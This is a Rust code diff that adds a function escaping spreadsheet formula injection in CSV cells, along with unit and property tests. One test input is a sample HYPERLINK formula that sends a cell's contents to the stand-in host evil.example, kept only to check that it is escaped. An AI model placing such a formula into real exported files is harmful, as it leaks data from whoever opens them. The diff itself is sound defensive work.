@@ -20,3 +20,47 @@ pub struct Problem {
 
 /// At most this many problems are collected before reading stops.
 pub const MAX_PROBLEMS: usize = 50;
+
+/// A cell for a CSV file people open in a spreadsheet: text that a spreadsheet would run as a
+/// formula (starting with `=`, `+`, `-`, `@`, a tab or a carriage return) is prefixed with an
+/// apostrophe, so it shows as the text it is; numbers, negative ones included, stay numbers.
+pub fn spreadsheet_cell(text: &str) -> std::borrow::Cow<'_, str> {
+    let risky = text.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    if risky && text.trim().parse::<f64>().is_err() {
+        std::borrow::Cow::Owned(format!("'{text}"))
+    } else {
+        std::borrow::Cow::Borrowed(text)
+    }
+}
+
+/// The byte-order mark that makes spreadsheets read a CSV file as UTF-8, so Vietnamese stays
+/// intact when the file is opened with a double click.
+pub const UTF8_BOM: &[u8] = b"\xEF\xBB\xBF";
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use proptest::prelude::*;
+
+    #[test]
+    fn formulas_become_text_and_numbers_stay_numbers() {
+        assert_eq!(
+            spreadsheet_cell("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")"),
+            "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")"
+        );
+        assert_eq!(spreadsheet_cell("@SUM(A1)"), "'@SUM(A1)");
+        assert_eq!(spreadsheet_cell("\tcmd"), "'\tcmd");
+        assert_eq!(spreadsheet_cell("-5"), "-5");
+        assert_eq!(spreadsheet_cell("+0.25"), "+0.25");
+        assert_eq!(spreadsheet_cell("Hà Tĩnh"), "Hà Tĩnh");
+    }
+
+    proptest! {
+        #[test]
+        fn no_cell_starts_a_formula(text in ".*") {
+            let cell = spreadsheet_cell(&text);
+            let starts_formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+            prop_assert!(!starts_formula || cell.trim().parse::<f64>().is_ok());
+        }
+    }
+}
